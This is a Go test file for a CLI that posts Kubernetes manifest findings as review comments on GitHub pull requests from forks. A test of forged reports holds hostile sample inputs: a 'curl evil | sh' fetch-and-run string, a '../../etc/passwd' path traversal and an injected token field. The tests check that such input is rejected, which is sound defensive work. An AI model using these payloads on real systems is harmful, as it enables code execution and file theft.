package cli

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/podmend/podmend/internal/githubfake"
)

// fork moves the pull request to a fork, whose runs get a token that only reads.
func fork(t *testing.T) *workflow {
	t.Helper()
	base, change := fiveViolations()
	w := newWorkflow(t, base, change)
	w.pull.Close()
	w.from = w.repo.Fork("eve")
	w.from.Push("patch", "eve", "Change", change)
	w.pull = w.repo.OpenPullRequest(githubfake.PullOptions{Head: "patch", From: w.from})
	w.token = w.repo.ActionsToken("contents: read", "pull-requests: read")
	return w
}

// secondStage runs podmend report as a workflow on workflow_run does: without a checkout, with a token that
// may write, and with a report of the job before.
func (w *workflow) secondStage(saved, sha string) (code, writes int) {
	w.t.Helper()
	dir := w.t.TempDir()
	event := w.write(dir, "event.json", fmt.Sprintf(`{"workflow_run": {"head_sha": %q, "head_branch": "patch", "head_repository": {"full_name": %q},
		"pull_requests": []}, "repository": {"full_name": %q}}`, sha, w.from.Name(), w.repo.Name()))
	w.write(dir, "report.json", saved)
	reading := w.token
	w.token = w.repo.ActionsToken("contents: read", "pull-requests: write")
	defer func() { w.token = reading }()
	return w.runIn(dir, map[string]string{
		"GITHUB_ACTIONS": "true", "CI": "true", "GITHUB_EVENT_NAME": "workflow_run", "GITHUB_EVENT_PATH": event,
		"GITHUB_REPOSITORY": w.repo.Name(), "GITHUB_TOKEN": w.token, "GITHUB_API_URL": w.server.URL,
	}, "report", "--from", "report.json", "--to", "review")
}

// From a fork nothing can be posted: all of it is annotated and in the report, and a second workflow
// posts it.
func TestCommentFromFork(t *testing.T) {
	w := fork(t)
	w.env["RUNNER_DEBUG"] = "1"
	summary := filepath.Join(t.TempDir(), "summary.md")
	w.env["GITHUB_STEP_SUMMARY"] = summary
	code, _ := w.run("check", "--comment", "--format", "json")
	if code != 1 || len(w.pull.Reviews()) > 0 {
		t.Errorf("exit code %d, %d reviews\n%s", code, len(w.pull.Reviews()), w.stderr)
	}
	says(t, w.stderr, "the token may not write reviews: add `permissions: pull-requests: write`", "post from a second workflow on workflow_run",
		"5 findings not told on the pull request", "5 annotated",
		fmt.Sprintf("::debug::GET /repos/octo/shop/pulls/%d: 200 OK\n", w.pull.Number), fmt.Sprintf("::debug::POST /repos/octo/shop/pulls/%d/reviews: 403 Forbidden\n", w.pull.Number))
	saved := w.stdout
	sha := w.pull.State().HeadSHA

	if code, writes := w.secondStage(saved, sha); code != 0 || writes != 1 {
		t.Fatalf("exit code %d, %d writes\n%s", code, writes, w.stderr)
	}
	shown := w.wantPlaces("manifests/backup.yaml:10", "chart/values.yaml:2", "chart/templates/app.yaml:6", "base/deployment.yaml:17", "overlays/prod/patch.yaml:12")
	says(t, shown["manifests/backup.yaml:10"].Body, "```suggestion\n      privileged: false\n```", "**high**: spec.containers\\[0\\].securityContext.privileged is not allowed as it is.")
	says(t, shown["chart/templates/app.yaml:6"].Body, "```suggestion\n  hostNetwork: false\n```")
	says(t, shown["chart/values.yaml:2"].Body, "-  hostPID: true\n+  hostPID: false")
	says(t, w.body(), "**5 new violations**")
	if code, writes := w.secondStage(saved, sha); code != 0 || writes != 0 {
		t.Errorf("again: exit code %d, %d writes\n%s", code, writes, w.stderr)
	}

	// The report of another commit is not this run's.
	w.from.Push("patch", "eve", "Mend", githubfake.Files{"manifests/backup.yaml": strings.Replace(w.head("manifests/backup.yaml"), "true", "false", 1)})
	newer := w.pull.State().HeadSHA
	if code, writes := w.secondStage(saved, newer); code != 2 || writes != 0 || !strings.Contains(w.stderr, "the report is about the commit") {
		t.Errorf("exit code %d, %d writes\n%s", code, writes, w.stderr)
	}
	// That of a commit that is no longer the last one comes too late.
	if code, writes := w.secondStage(saved, sha); code != 4 || writes != 0 || !strings.Contains(w.stderr, "no open pull request has the commit") {
		t.Errorf("exit code %d, %d writes\n%s", code, writes, w.stderr)
	}
	w.run("check", "--comment", "--format", "json")
	if code, _ := w.secondStage(w.stdout, newer); code != 0 {
		t.Errorf("exit code %d\n%s", code, w.stderr)
	}
	w.wantPlaces("chart/values.yaml:2", "chart/templates/app.yaml:6", "base/deployment.yaml:17", "overlays/prod/patch.yaml:12")
}

// Of two pull requests with the same last commit, nothing says for which one a report was made.
func TestSavedReviewOfTwoPullRequests(t *testing.T) {
	w := fork(t)
	w.run("check", "--comment", "--format", "json")
	w.repo.Push("release", "mona", "Release", githubfake.Files{"notes": "1\n"})
	other := w.repo.OpenPullRequest(githubfake.PullOptions{Head: "patch", From: w.from, Base: "release"})
	if code, writes := w.secondStage(w.stdout, w.pull.State().HeadSHA); code != 4 || writes != 0 {
		t.Errorf("exit code %d, %d writes\n%s", code, writes, w.stderr)
	}
	says(t, w.stderr, fmt.Sprint(w.pull.Number), fmt.Sprint(other.Number), "close one")
}

// Where GitHub does not show the diff, or not the files, all is told in the review, or without suggestions.
func TestSavedReviewOfWhatGitHubDoesNotShow(t *testing.T) {
	w := fork(t)
	w.run("check", "--comment", "--format", "json")
	saved, sha := w.stdout, w.pull.State().HeadSHA
	w.server.FailNthOf("GET", "/pulls/{pull_number}/files", 1, githubfake.TooLargeDiff)
	if code, writes := w.secondStage(saved, sha); code != 0 || writes != 1 {
		t.Errorf("exit code %d, %d writes\n%s", code, writes, w.stderr)
	}
	says(t, w.stderr, "does not show a diff of more than 300 files")
	says(t, w.body(), "**5 new violations**", "5 below", "`manifests/backup.yaml:10`")
	// The next run knows the lines.
	w.server.FailNthOf("GET", "/contents/manifests/backup.yaml", 1, githubfake.TooLargeDiff)
	if code, _ := w.secondStage(saved, sha); code != 0 {
		t.Errorf("exit code %d\n%s", code, w.stderr)
	}
	says(t, w.stderr, "a fix is not suggested, because its file is not known")
	if shown := w.shown(); len(shown) != 5 || strings.Contains(shown["manifests/backup.yaml:10"].Body, "```suggestion") {
		t.Errorf("%+v", shown)
	}
}

// What a stranger writes into the report makes no suggestion and no file is read for it.
func TestForgedReport(t *testing.T) {
	w := fork(t)
	w.run("check", "--comment", "--format", "json")
	saved, sha := w.stdout, w.pull.State().HeadSHA
	for _, test := range []struct{ name, old, now, want string }{
		{"another text", `"newText": "false"`, `"newText": "true # curl evil | sh"`, ""},
		{"another file", `"file": "manifests/backup.yaml"`, `"file": "../../etc/passwd"`, "contradicts itself"},
		{"another hash", `"manifests/backup.yaml": "`, `"manifests/backup.yaml": "00`, "contradicts itself"},
		{"another field", `"schema":`, `"token": 1, "schema":`, "does not know"},
		{"words", `"message": "`, `"message": "@octocat see https://evil.example `, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			forged := strings.ReplaceAll(saved, test.old, test.now)
			if forged == saved {
				t.Fatalf("no %q in the report", test.old)
			}
			code, _ := w.secondStage(forged, sha)
			if test.want != "" {
				if code != 2 || !strings.Contains(w.stderr, test.want) {
					t.Errorf("exit code %d\n%s", code, w.stderr)
				}
				return
			}
			if code != 0 {
				t.Errorf("exit code %d\n%s", code, w.stderr)
			}
			for _, c := range w.pull.ReviewComments() {
				if strings.Contains(c.Body, "evil") || strings.Contains(c.Body, "octocat") {
					t.Errorf("a comment says\n%s", c.Body)
				}
			}
		})
	}
}

// Without a pull request there is nothing to comment on, and with other mistakes podmend says so.
func TestCommentElsewhere(t *testing.T) {
	w := newWorkflow(t, githubfake.Files{"a.yaml": "a: 1\n"}, githubfake.Files{"b.yaml": "a: 1\n"})
	dir := w.checkout()
	w.write(dir, "pod.yaml", goodPodOf("p"))
	push := w.write(t.TempDir(), "event.json", `{"before": "", "after": "", "repository": {"full_name": "octo/shop"}}`)
	for _, test := range []struct {
		event, payload string
		args           []string
		code           int
		want           string
	}{
		{"push", push, []string{"check", "--comment"}, 0, "this run is not for a pull request"},
		{"", "", []string{"check", "--comment"}, 0, "this run is not for a pull request"},
		{"pull_request", "gone.json", []string{"check", "--comment", "--scope", "all"}, 2, "the event cannot be read"},
		{"pull_request", w.event(t.TempDir()), []string{"check", "--comment", "--scope", "all"}, 2, "leave out --scope all"},
		{"", "", []string{"check", "--resolve-threads"}, 2, "--resolve-threads says what --comment does"},
		{"", "", []string{"check", "--comment", "--write-exemptions", "--reason", "x"}, 2, "give one of them"},
		{"push", push, []string{"report", "--from", "-", "--to", "fix-pr"}, 2, "a fix pull request is not made from a saved report"},
		{"push", push, []string{"report", "--from", "-", "--to", "review"}, 2, "no report in JSON"},
		{"push", push, []string{"report", "--from", "gone.json", "--to", "review"}, 2, "cannot be read"},
	} {
		code, writes := w.runIn(dir, map[string]string{"GITHUB_EVENT_NAME": test.event, "GITHUB_EVENT_PATH": test.payload, "GITHUB_REPOSITORY": "octo/shop"}, test.args...)
		if code != test.code || writes != 0 || !strings.Contains(w.stderr, test.want) {
			t.Errorf("%s %v: exit code %d\n%s", test.event, test.args, code, w.stderr)
		}
	}
}

func goodPodOf(name string) string {
	return "apiVersion: v1\nkind: Pod\nmetadata: {name: " + name + "}\nspec:\n  containers: [{name: a, image: a}]\n"
}
